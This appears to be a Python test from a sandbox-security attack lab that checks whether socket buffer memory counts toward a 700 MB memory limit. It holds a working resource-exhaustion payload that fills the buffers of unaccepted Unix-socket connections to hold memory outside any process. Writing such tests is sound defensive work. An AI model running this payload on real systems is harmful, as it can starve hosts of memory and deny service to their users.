"""Wants the machine's memory, by connections that nobody accepts: what lies in them is open in no process.

Won: more than the limit (700 MB) was held, of which what was sent is the half.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "sockets_are_counted"
CELL = """
import socket, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("/tmp/listener")
listener.listen(4096)
total, data = 0, bytes(1 << 16)
for _ in range(1600):
    caller = socket.socket(socket.AF_UNIX)
    caller.setblocking(False)
    caller.connect("/tmp/listener")
    try:
        while True:
            total += caller.send(data)
    except BlockingIOError:
        caller.close()
time.sleep(0.3)
if total > 350 << 20:
    raise Exception(f"LOOT {total >> 20} MB in connections that nobody accepts")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It was ended for its memory."""
    return "MemoryLimit" in evidence.ended
